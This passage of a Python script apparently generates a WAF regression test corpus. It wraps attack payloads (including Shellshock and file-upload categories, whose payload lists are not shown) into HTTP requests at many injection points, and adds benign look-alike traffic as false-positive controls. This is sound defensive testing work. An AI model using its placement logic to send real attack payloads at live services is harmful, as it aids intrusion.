        body = urllib.parse.urlencode([("csrf_token", token(n + 7)), (p, "1")])
        return _req("POST", "/admin/users/search", {**h, "Accept": "text/html"}, body, form_ct)
    if place.startswith("json"):
        doc: dict[str, Any]
        if place == "json-d1":
            doc = {"name": "Ann Lee", "email": "ann@example.org", name: p}
        elif place == "json-d2":
            doc = {"name": "Ann Lee", "profile": {name: p, "timezone": "Europe/Berlin"}}
        elif place == "json-d3":
            doc = {"user": {"settings": {name: p, "theme": "dark"}}, "notify": True}
        elif place == "json-d4":
            doc = {"org": {"team": {"member": {name: p, "role": "viewer"}}}}
        elif place == "json-array":
            doc = {"name": "Ann Lee", "filters": [{"field": "status", "value": "active"}, {"field": name, "value": p}]}
        elif place == "json-key":
            doc = {"name": "Ann Lee", "meta": {p: "1"}}
        elif place == "json-pair":
            k, _, v = p.partition("=")
            doc = {k: v, "name": "Ann Lee"}
        else:  # raw-json is handled below
            raise ValueError(place)
        return _req("POST", "/api/users", h, json.dumps(doc), "application/json")
    if place == "raw-json":
        return _req("POST", "/api/users", h, json.dumps(p), "application/json")
    if place == "raw-text":
        return _req("POST", "/api/users", h, p, "text/plain")
    if place == "raw-form":
        return _req("POST", "/admin/users/search", h, p, form_ct)
    if place == "xml":
        body = f'<?xml version="1.0" encoding="UTF-8"?><user><name>Ann Lee</name><{name}>{escape(p)}</{name}></user>'
        return _req("POST", "/api/users", h, body, "application/xml")
    if place == "xml-attr":
        body = f'<?xml version="1.0" encoding="UTF-8"?><user name="Ann Lee"><link {name}={quoteattr(p)}/></user>'
        return _req("POST", "/api/users", h, body, "application/xml")
    mp_ct = f"multipart/form-data; boundary={BOUNDARY}"
    if place == "multipart-field":
        return _req("POST", "/api/users/42/avatar", h, multipart([("description", p)], "photo.png"), mp_ct)
    if place == "multipart-name":
        return _req("POST", "/api/users/42/avatar", h, multipart([(part_name(p), "1")], "photo.png"), mp_ct)
    if place == "multipart-filename":
        return _req("POST", "/api/users/42/avatar", h, multipart([("description", "new avatar")], part_name(p)),
                    mp_ct)
    if place == "cookie":
        return _req("GET", "/api/users?page=1", {**h, "Cookie": f"session={token(n)}; {name}={cookie_enc(p)}"})
    if place == "cookie-name":
        return _req("GET", "/api/users?page=1", {**h, "Cookie": f"session={token(n)}; {cookie_enc(p)}=1"})
    if place.startswith("header:"):
        return _req("GET", "/api/users?page=2", {**h, place.split(":", 1)[1]: p})
    if place == "path":
        return _req("GET", "/api/users/" + url_enc(p), h)
    if place == "path-matrix":
        return _req("GET", f"/api/users/42;{name}={url_enc(p)}", h)
    if place == "path-file":
        prefix = REAL_PATH_PREFIXES[i % len(REAL_PATH_PREFIXES)]
        return _req("GET", prefix + url_enc(p.lstrip("/"), "/") + PATH_SUFFIXES[i % len(PATH_SUFFIXES)], h)
    if place == "query-pair":
        k, _, v = p.partition("=")
        return _req("GET", f"/api/users?page=1&{url_enc(k, '[]')}={url_enc(v, ':/?@')}", h)
    if place == "form-pair":
        k, _, v = p.partition("=")
        body = f"csrf_token={token(n + 7)}&{url_enc(k, '[]')}={url_enc(v, ':/?@')}"
        return _req("POST", "/admin/users/search", {**h, "Accept": "text/html"}, body, form_ct)
    raise ValueError(place)


def rs_place(place: str, p: str, n: int, i: int, sub: str) -> dict[str, Any]:
    """The payload as a WAF regression suite sends it: off our routes, arbitrary names."""
    h = rs_headers()
    name = RS_NAMES[n % len(RS_NAMES)]
    gpath = "/cgi-bin/test.cgi" if sub.startswith("shellshock") else RS_GET_PATHS[n % len(RS_GET_PATHS)]
    ppath = RS_POST_PATHS[n % len(RS_POST_PATHS)]
    form_ct = "application/x-www-form-urlencoded"
    loose = "/:;,()$'!*@[]{}|`^~?="
    if place == "rs-query":
        return _req("GET", f"{gpath}?{name}={url_enc(p, loose)}", h)
    if place == "rs-param-name":
        return _req("GET", f"{gpath}?{url_enc(p, loose.replace('=', ''))}", h)
    if place == "rs-form":
        return _req("POST", ppath, h, f"{name}={url_enc(p, loose)}", form_ct)
    if place == "rs-raw-form":
        return _req("POST", ppath, h, p, form_ct)
    if place == "rs-json":
        return _req("POST", ppath, h, json.dumps({name: p}), "application/json")
    if place == "rs-xml":
        return _req("POST", ppath, h, f"<?xml version=\"1.0\"?><root><{name}>{escape(p)}</{name}></root>",
                    "text/xml")
    if place == "rs-ua":
        return _req("GET", gpath, {**h, "User-Agent": p})
    if place == "rs-referer":
        return _req("GET", gpath, {**h, "Referer": p})
    if place == "rs-header":
        hname = "X-Filename" if sub == "restricted-file-upload" else RS_HEADER_NAMES[n % len(RS_HEADER_NAMES)]
        return _req("GET" if hname != "X-Filename" else "PUT", gpath, {**h, hname: p})
    if place == "rs-cookie" and sub == "shellshock-headers":
        return _req("GET", gpath, {**h, "Cookie": p})
    if place == "rs-cookie":
        return _req("GET", gpath, {**h, "Cookie": f"{name}={cookie_enc(p)}"})
    if place == "rs-path":
        prefix = RS_PATH_PREFIXES[i % len(RS_PATH_PREFIXES)]
        if p.startswith("/") and ".." not in p:
            return _req("GET", prefix + url_enc(p, "/"), h)
        return _req("GET", prefix + "/" + url_enc(p), h)
    if place == "rs-multipart-filename":
        body = multipart([(name, "x")], part_name(p), "file")
        return _req("POST", "/post", h, body, f"multipart/form-data; boundary={BOUNDARY}")
    if place == "rs-query-pair":
        k, _, v = p.partition("=")
        return _req("GET", f"/index.php?{url_enc(k, '[]')}={url_enc(v, ':/?@')}", h)
    if place == "rs-form-pair":
        k, _, v = p.partition("=")
        return _req("POST", ppath, h, f"{url_enc(k, '[]')}={url_enc(v, ':/?@')}", form_ct)
    raise ValueError(place)


HEADER_PLACES = ("header:", "rs-ua", "rs-referer", "rs-header")


def fits(place: str, p: str) -> bool:
    """A header cannot hold a line break."""
    return not (place.startswith(HEADER_PLACES) and ("\n" in p or "\r" in p))


def pick(places: list[str], k: int, p: str, fallback: str) -> str:
    place = places[k % len(places)]
    return place if fits(place, p) else fallback


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for t, (category, sub, payloads, reals, rss, names) in enumerate(TITLES):
        assert 8 <= len(payloads) <= 12 and len(set(payloads)) == len(payloads), sub
        for i, p in enumerate(payloads):
            offset = t * 5
            name = names[(i + t) % len(names)]
            real = pick(reals, i + offset, p, "json-d1")
            n += 1
            yield {**real_place(real, p, name, n, i), "id": f"{NAME}-{category}-{n:04d}", "category": category,
                   "sub": sub, "placement": real, "payload": p}
            rs = pick(rss, i + t, p, "rs-json")
            n += 1
            yield {**rs_place(rs, p, n, i, sub), "id": f"{NAME}-{category}-{n:04d}", "category": category,
                   "sub": sub, "placement": rs, "payload": p}


# ---------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently, at the same places
# ---------------------------------------------------------------------------------------------------------------

SLACK_TEXTS = [
    "can someone check the nginx error log on staging? I don't have access yet",
    "run `ls -la` in the deploy folder and paste what you see",
    "whoami on the runner says it's the ci user, so the cron job is fine",
    "ping me when the build is green and I'll merge",
    "I'll type up the meeting notes after lunch",
    "the cat picture in #random made my day",
    "our PowerShell script for the laptop setup lives in the it-tools repo",
    "for each customer we send one invoice, if the order shipped",
    "if you can, join the call at 3; for the rest, notes follow",
    "the history of this decision is in the ADR folder",
    "alias for the team channel is #platform-eng",
    "please copy the config from the wiki into the new service",
    "net revenue was up 4% this quarter",
    "the IMAP sync for the shared inbox is flaky again",
    "SMTP relay moved to the new provider, DNS updated",
    "POP3 is disabled for all mailboxes, use IMAP or the web app",
    "Mail from: the legal team, subject: contract renewal",
    "rcpt list for the newsletter is in the CRM",
    "we store user settings in sqlite on the mobile app",
    "the system prompt for the bot lives in the config file",
    "shell access is only via the bastion host",
    "the bash history on shared servers is cleared on logout, by policy",
    "the passwd file question came up in the Linux workshop, slides are in the drive",
    "docs say to put the service file in /etc/systemd/system",
    "logs rotate daily under /var/log/app",
    "the .env.example file lists every variable, never commit the real one",
    "add the folder to .gitignore please",
    "the web.config for the old IIS site is archived",
    "htaccess rules were replaced by the nginx config last year",
    "the 12 o'clock standup is moved to 12:30",
    "the URL is https://docs.example.com/guide?section=3, worth a read",
    "ftp is gone, we use sftp only",
    "grab the file from the shared drive, folder Finance/2024",
    "the wiki page ../onboarding links are broken after the move",
    "echo from the warehouse team: shipment arrives Tuesday",
    "time to update the dependency list",
    "the for loop in the report script takes ages",
    "wget and curl are both installed on the build image",
    "uname shows the kernel is 6.8 on the new nodes",
    "the id of the new channel is C0123ABCD",
    "perl is still used by the old billing scripts",
    "python 3.12 is the default runtime now",
    "ruby on rails app migration starts in Q3",
    "the telnet port is closed on every host, checked with the scanner team",
    "the DATA team asked for a new dashboard",
    "HELO from the Lisbon office!",
    "QUIT smoking challenge starts Monday, sign up in #wellness",
    "list of attendees: Ann, Bo, Chidi, Dana",
    "STAT holiday on Monday in Ireland",
    "USER research sessions are booked for next week",
    "RETR0 party theme for the offsite!",
    "TOP 10 customer requests are on the roadmap board",
    "rename the channel to #proj-atlas please",
    "select the rows you want and export them",
    "delete the draft if you don't need it anymore",
    "the fetch call in the front end retries three times",
    "store the receipts in the expenses folder",
    "create the ticket and assign it to me",
    "login page redesign is live",
    "we moved from cmd scripts to PowerShell for the Windows builds",
    "the dir listing in the release notes is out of date",
    "type checking runs in CI with mypy",
    "set the env variable in the deployment, not in the code",
    "the tasklist for the sprint is on the board",
    "reg office hours are 9 to 5",
    "start the process once the approvals are in",
    "get the content from the marketing team by Friday",
    "invoke the on-call rotation if the site is down",
    "new object storage bucket is ready for the exports",
    "the path to the report is Reports > 2024 > Q2",
    "half of the team is at the conference",
    "alias emails forward to the shared inbox",
    "the find feature in the admin panel is much faster now",
    "sort by date, then by name",
    "tail of the queue is about 200 messages",
    "head count for the party is 42",
    "the awk one-liner in the runbook counts the 500s",
    "sed and awk are part of the onboarding exercises",
    "vi or nano, whatever you like on the servers",
    "use the alias `k` for kubectl if you want",
    "the cron job runs at 02:00 UTC",
    "ssh keys are rotated every 90 days",
    "the root cause was a full disk",
    "the sh scripts in tools/ need a shebang line",
    "bin folder cleanup is done",
    "the usr group meets on Thursdays",
    "env files are loaded by the process manager",
    "the proc stats dashboard is in Grafana",
    "etc. etc. you know the drill",
    "the windows laptops get the update tonight",
    "the boot time of the new VMs is under 20s",
    "win rate on enterprise deals is 31%",
    "the .bashrc snippet in the docs sets the prompt colors",
    "I & my team will cover the booth",
    "Q&A; then drinks",
    "A | B testing results are in",
    "price is $5 (plus tax)",
    "it's 100% done; just waiting on review",
    "Tom & Jerry's is closed for renovation",
    "the sqlite file is only for local dev",
    "attach the database diagram to the ticket",
    "load the extension from the Chrome web store",
]
PUBLIC_URLS = [
    "https://docs.example.com/guides/cli",
    "https://www.gnu.org/software/bash/manual/bash.html",
    "https://learn.microsoft.com/en-us/powershell/scripting/overview",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/for",
    "https://man7.org/linux/man-pages/man5/passwd.5.html",
    "https://www.sqlite.org/cli.html",
    "https://datatracker.ietf.org/doc/html/rfc5321",
    "https://datatracker.ietf.org/doc/html/rfc9051",
    "https://datatracker.ietf.org/doc/html/rfc1939",
    "https://nginx.org/en/docs/http/ngx_http_core_module.html",
    "https://github.com/acme/tools/blob/main/scripts/setup.sh",
    "https://github.com/acme/tools/tree/main/etc/config",
    "https://cdn.example.org/files/report.pdf?download=1",
    "https://example.com/",
    "https://www.example.co.uk/shop/item?id=42",
    "https://blog.example.com/2024/06/cat-photos",
    "https://example.com/downloads/setup.exe",
    "https://status.example.com/incidents/123",
    "https://app.example.com/settings?tab=profile",
    "https://images.example.net/avatars/ann.png",
    "https://jobs.example.com/positions/sre?location=remote",
    "https://docs.python.org/3/library/subprocess.html",
    "https://en.wikipedia.org/wiki/Shellshock_(software_bug)",
    "https://en.wikipedia.org/wiki/Directory_traversal_attack",
    "https://example.org/path/to/page.html#section-2",
    "https://calendar.example.com/event?id=2024-07-01&view=week",
    "https://maps.example.com/?q=10+Downing+Street",
    "https://support.example.com/kb/how-to-reset-your-login",
    "https://forum.example.com/t/for-loops-in-batch-files/123",
    "https://docs.example.com/api/v2/users?page=2",
]
PROSE = [
    "cat food order for the office",
    "type of contract: permanent",
    "net 30 payment terms",
    "history of the company",
    "alias: Bobby Tables",
    "for sale: used desk, if still available",
    "if you are reading this, welcome",
    "time sheet for June",
    "find a room for 6 people",
    "echo chamber article",
    "id card renewal",
    "ping pong table booking",
    "the shell company question from finance",
    "mail from the landlord",
    "data retention policy",
    "list of vendors",
    "user guide for the new printer",
    "dir. of operations",
    "copy of the lease",
    "set up the new hire laptop",
    "start date 2024-07-01",
    "Tom & Jerry",
    "R&D budget",
    "A/B test results",
    "Smith; Jones; Brown",
    "Jones (marketing)",
    "O'Brien, Siobhán",
    "50% off",
    "who am I speaking with",
    "see you at 10:30",
    "etc/misc notes",
    "the pass for the parking garage",
    "fetch the mail",
    "delete old drafts",
    "select the best vendor",
    "rename the file",
    "top sellers of the month",
    "what is uname",
    "powershell training",
    "sqlite vs postgres",
    "imap settings for outlook",
    "smtp port 587",
    "pop3 or imap",
    "bash scripting course",
    "windows 11 upgrade",
]
SEARCHES = [
    "ann lee", "bo chen", "chidi okafor", "dana smith", "o'neil", "garcía", "müller", "zoë", "li wei",
    "sales team", "finance", "ops on-call", "admin", "support", "devops", "it help desk", "marketing",
    "cat lover", "net ops", "type a", "time off", "history dept", "for hire", "if needed", "find me",
    "echo park", "id verification", "ping", "shell oil", "mail room", "data team", "list", "user 42",
    "copy editor", "set designer", "start-up", "R&D", "A&B", "Q1 report", "50%", "c/o", "re: invoice",
    "who is on call", "where is the printer", "how to reset login", "vpn setup", "laptop return",
    "windows laptop", "linux laptop", "mac laptop", "sqlite export", "smtp settings", "imap setup",
    "powershell course", "bash course", "etc", "passwd reset", "root cause", "bin day", "proc rules",
]
PROFILES = [
    ("title", "Senior Platform Engineer"), ("title", "Shell Scripting Instructor"), ("department", "Net Ops"),
    ("department", "History & Archives"), ("title", "Windows Admin"), ("title", "Linux & Unix Systems Lead"),
    ("bio", "I automate things with bash and PowerShell"), ("bio", "cat person; coffee drinker"),
    ("bio", "for the love of clean code, if possible"), ("bio", "IMAP/SMTP migrations are my thing"),
    ("location", "Paris, France"), ("location", "São Paulo"), ("location", "Dublin 2, Ireland"),
    ("nickname", "whoami_ann"), ("nickname", "the_ping_guy"), ("nickname", "echo"), ("website", "https://ann.dev"),
    ("website", "https://github.com/annlee"), ("website", "https://example.com/about-me"),
    ("bio", "Ops lead. Ask me about /etc configs and systemd units"), ("bio", "time zone: CET"),
    ("bio", "Tom & Jerry fan"), ("bio", "100% remote"), ("title", "Head of Data"), ("title", "DBA (sqlite, pg)"),
    ("bio", "I write docs about dir structures and file paths"), ("bio", "history buff"),
    ("bio", "alias: Annie"), ("bio", "find me in #platform"), ("title", "Mail Systems Engineer"),
    ("bio", "POP3 was my first protocol"), ("bio", "type 1 diabetic, runner"), ("bio", "net zero advocate"),
    ("title", "Command Center Operator"), ("title", "Set & Props Designer"), ("bio", "start-up veteran"),
    ("bio", "love the cat /ˈkæt/ emoji"), ("bio", "Windows, macOS, Linux"), ("bio", "passionate about UX"),
    ("title", "Release Manager"),
]
XML_VALUES = [
    "Ann Lee", "Bo Chen", "Sales & Marketing", "R&D", "cat lover", "for sale", "if possible", "net 30",
    "history", "alias Annie", "type A", "time off", "ping pong", "shell company", "mail room", "data team",
    "user guide", "copy editor", "set designer", "Windows admin", "Linux admin", "bash course",
    "powershell course", "sqlite export", "smtp relay", "imap inbox", "pop3 off", "etc.", "root cause",
    "echo park", "find a room", "id card", "list view", "Tom & Jerry", "50% off", "O'Brien", "Müller",
    "São Paulo", "who am I", "Q&A",
]
UPLOAD_NAMES = [
    "report.pdf", "avatar.png", "photo 2024-06-01.jpg", "invoice_42.pdf", "CV - Ann Lee.docx", "notes.txt",
    "config-guide.pdf", "bash-cheatsheet.pdf", "powershell-notes.md", "cat.jpg", "history-essay.docx",
    "team list.xlsx", "profile.jpeg", "scan0001.tif", "logo.svg", "slides.pptx", "shell-company-memo.pdf",
    "data.csv", "export.json", "backup-2024.zip", "windows-setup.pdf", "linux-guide.pdf", "sqlite-dump.sql",
    "smtp-settings.png", "imap-howto.pdf", "passwd-policy.pdf", "etc-notes.txt", "Résumé.pdf", "ping.mp3",
    "echo.wav", "findings.docx", "id-card.png", "env-vars.pdf", "mail-merge.docx", "root-cause.pdf",
    "user-manual.pdf", "profile.ini.txt", "htaccess-guide.pdf", "web-config-notes.txt", "readme.md",
]
BROWSER_UAS = [
    UA_REAL,
    UA_RS,
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile "
    "Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 Edg/126.0.0.0",
    "okhttp/4.12.0",
    "python-requests/2.32.3",
    "axios/1.7.2",
    "Go-http-client/2.0",
    "MyCompanyApp/3.4.1 (iOS 17.5; iPhone15,2)",
    "MyCompanyApp/3.4.1 (Android 14; Pixel 8)",
    "PostmanRuntime/7.39.0",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/126.0.0.0 Safari/537.36",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17726; Pro)",
    "Thunderbird/115.12.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP2A.240605.024)",
]
REFERERS = [
    "https://app.example.com/admin/users",
    "https://app.example.com/admin/users/search?q=ann",
    "https://www.google.com/",
    "https://www.bing.com/search?q=cat+food",
    "https://duckduckgo.com/?q=bash+for+loop",
    "https://app.example.com/settings/profile",
    "https://docs.example.com/guides/cli#install",
    "https://app.example.com/reports/2024/q2",
    "https://example.slack.com/archives/C0123ABCD",
    "https://github.com/acme/tools/blob/main/etc/README.md",
    "https://mail.example.com/inbox",
    "https://app.example.com/files/report.pdf",
    "https://learn.microsoft.com/en-us/powershell/",
    "https://www.sqlite.org/docs.html",
    "https://app.example.com/admin/users?page=2&per_page=50",
    "https://stackoverflow.com/questions/123/how-to-loop-in-bash",
    "https://app.example.com/me/settings",
    "https://intranet.example.com/history",
    "https://app.example.com/oauth/authorize?client_id=abc",
    "https://news.example.com/story/shell-company-report",
]
COOKIES = [
    "theme=dark", "lang=en-US", "tz=Europe%2FBerlin", "last_search=cat%20food", "sidebar=collapsed",
    "tour_done=1", "recent=report.pdf", "filter=status%3Aactive", "view=list", "sort=name",
    "region=eu-west-1", "beta=windows-app", "tab=history", "alias=annie", "font=mono", "editor=vi",
    "shell=zsh", "mail=imap", "db=sqlite", "ui=classic",
]
BENIGN_PATHS = [
    "/api/users/42", "/api/users/ann.lee", "/api/users/o%27neil", "/api/users/42/avatar", "/api/files/report.pdf",
    "/api/files/2024/q2/summary.xlsx", "/api/users?page=2&per_page=50", "/api/users/42/history",
    "/api/users/cat-lover", "/api/users/42/settings", "/api/teams/net-ops", "/api/reports/etc-costs",
    "/api/users/M%C3%BCller", "/api/docs/bash-guide", "/api/docs/powershell-guide", "/api/files/passwd-policy.pdf",
    "/api/files/web-config-notes.txt", "/api/search/for-sale", "/api/users/42;v=2", "/api/files/readme.md",
    "/me/settings", "/me/profile", "/me/notifications", "/admin/users", "/admin/users/42",
    "/admin/reports/history", "/admin/settings/mail", "/admin/settings/smtp", "/api/integrations/imap",
    "/api/exports/data.csv", "/api/users/42/files/cv.pdf", "/api/users/42/files/photo.jpg",
    "/api/users/ping", "/api/users/echo", "/api/users/id", "/api/tags/shell", "/api/tags/alias",
    "/api/tags/sqlite", "/api/users/root-cause", "/api/users/windows-admin",
]
FILTER_KEYS = [
    "status", "team", "role", "created_after", "department", "title", "location", "tags", "manager", "language",
    "for_sale", "if_match", "type", "history_days", "alias", "cmd_palette", "shell_pref", "mail_protocol",
    "db_engine", "os",
]


def _benign_places(n: int) -> Iterator[dict[str, Any]]:
    for k, text in enumerate(SEARCHES):
        yield {**_req("GET", f"/api/users?q={url_enc(text)}&page={1 + k % 3}&per_page=20", real_headers(k)),
               "kind": "search", "placement": "query"}
        body = urllib.parse.urlencode([("csrf_token", token(k + 7)), ("q", text)])
        yield {**_req("POST", "/admin/users/search", {**real_headers(k), "Accept": "text/html"}, body,
                      "application/x-www-form-urlencoded"), "kind": "adminsearch", "placement": "form"}
    for k, text in enumerate(PROSE):
        doc: dict[str, Any] = {"org": {"team": {"member": {"name": "Ann Lee", "note": text}}}}
        yield {**_req("POST", "/api/users", real_headers(k), json.dumps(doc), "application/json"),
               "kind": "note", "placement": "json"}
        yield {**_req("POST", "/api/users", real_headers(k), text, "text/plain"), "kind": "memo",
               "placement": "raw-text"}
    for k, (field, value) in enumerate(PROFILES):
        doc = {"user": {"settings": {"theme": "light"}, "profile": {field: value}}, "org": {"team": {"member": {
            "name": "Ann Lee", field: value}}}}
        yield {**_req("POST", "/api/users", real_headers(k), json.dumps(doc, ensure_ascii=False), "application/json"),
               "kind": "profile", "placement": "json"}
    for k, value in enumerate(XML_VALUES):
        body = (f'<?xml version="1.0" encoding="UTF-8"?><user name={quoteattr(value)}><name>Ann Lee</name>'
                f"<note>{escape(value)}</note></user>")
        yield {**_req("POST", "/api/users", real_headers(k), body, "application/xml"), "kind": "xml",
               "placement": "xml"}
    for k, fname in enumerate(UPLOAD_NAMES):
        body = multipart([("description", f"upload {k}: {fname}")], fname, "file")
        yield {**_req("POST", "/api/users/42/avatar", real_headers(k), body,
                      f"multipart/form-data; boundary={BOUNDARY}"), "kind": "upload", "placement": "multipart"}
    for k, ua in enumerate(BROWSER_UAS):
        yield {**_req("GET", f"/api/users?page={1 + k % 4}", {**real_headers(k), "User-Agent": ua}), "kind": "ua",
               "placement": "header:User-Agent"}
    for k, ref in enumerate(REFERERS):
        yield {**_req("GET", "/api/users?page=1", {**real_headers(k), "Referer": ref}), "kind": "referer",
               "placement": "header:Referer"}
    for k, cookie in enumerate(COOKIES):
        yield {**_req("GET", "/api/users?page=1", {**real_headers(k), "Cookie": f"session={token(k)}; {cookie}"}),
               "kind": "cookie", "placement": "cookie"}
    for k, path in enumerate(BENIGN_PATHS):
        yield {**_req("GET", path, real_headers(k)), "kind": "path", "placement": "path"}
    for k, key in enumerate(FILTER_KEYS):
        doc = {"filters": {key: "yes" if k % 2 else "any"}, "page": 1, "items": [{"key": key, "value": "1"}]}
        yield {**_req("POST", "/api/users", real_headers(k), json.dumps(doc), "application/json"),
               "kind": "filters", "placement": "json-key"}
        yield {**_req("GET", f"/api/users?{url_enc(key)}=1&page=1", real_headers(k)), "kind": "paramname",
               "placement": "param-name"}


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, NAME, n)
    for rec in _benign_places(n):
        n += 1
        kind = rec.pop("kind")
        yield {**rec, "id": f"{NAME}-{kind}-{n:04d}", "category": "benign"}


if __name__ == "__main__":
    print_records(attacks(), benign())
